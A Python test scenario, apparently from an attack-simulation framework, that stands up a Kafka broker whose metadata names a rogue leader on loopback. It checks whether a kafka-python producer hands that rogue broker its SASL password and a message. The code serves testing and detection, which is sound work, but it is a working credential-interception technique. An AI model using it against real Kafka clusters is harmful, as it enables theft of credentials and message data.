"""C4: a broker names another one as the leader. The producer logs in there and sends its messages."""

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.kafka import TOPIC, Kafka
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import SECRET, Scenario


class _Naming(Kafka):
    """The other broker was in the cluster once: it has the keys that all brokers share."""

    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = Kafka(authority)
        self.elsewhere.certificate = self.certificate
        self.elsewhere.taken = self.elsewhere.kept.append

    def start(self) -> None:
        self.elsewhere.start()
        super().start()

    def stop(self) -> None:
        super().stop()
        self.elsewhere.stop()

    def brokers(self) -> list[tuple[str, int]]:
        """Return the brokers, with a rogue leader once hostile."""
        return super().brokers() + ([(LOOPBACK, self.elsewhere.port)] if self.hostile else [])


class KafkaRogueBroker(Scenario):
    """kafka-python connects to every broker in the cluster's metadata."""

    code = "C4"
    attack = "names a broker that is not the cluster's as the leader, which is sent the password and the messages"
    reference = "https://kafka.apache.org/protocol.html#The_Messages_Metadata; ATT&CK T1557"
    driver = "kafka"
    rule = "topology-changed"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return a broker that names another one."""
        return _Naming(authority)

    def work(self) -> None:
        """Send an order."""
        self.meet()

    def meet(self) -> object:
        """Send an order, by a new producer as each time."""
        from kafka import KafkaProducer

        producer = KafkaProducer(
            bootstrap_servers=[f"localhost:{self.config.port}"], security_protocol="SASL_SSL", sasl_mechanism="PLAIN",
            sasl_plain_username="shop", sasl_plain_password=SECRET, ssl_cafile=self.config.ca_file,
            enable_idempotence=False, retries=0, request_timeout_ms=5_000, max_block_ms=5_000,
        )  # fmt: skip
        try:
            return producer.send(TOPIC, b"two apples").get(timeout=5).offset
        finally:
            producer.close(timeout=2)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other broker received the password and the order."""
        del got
        assert isinstance(service, _Naming)
        received = b"".join(service.elsewhere.kept)
        return SECRET.encode() in received and b"two apples" in received
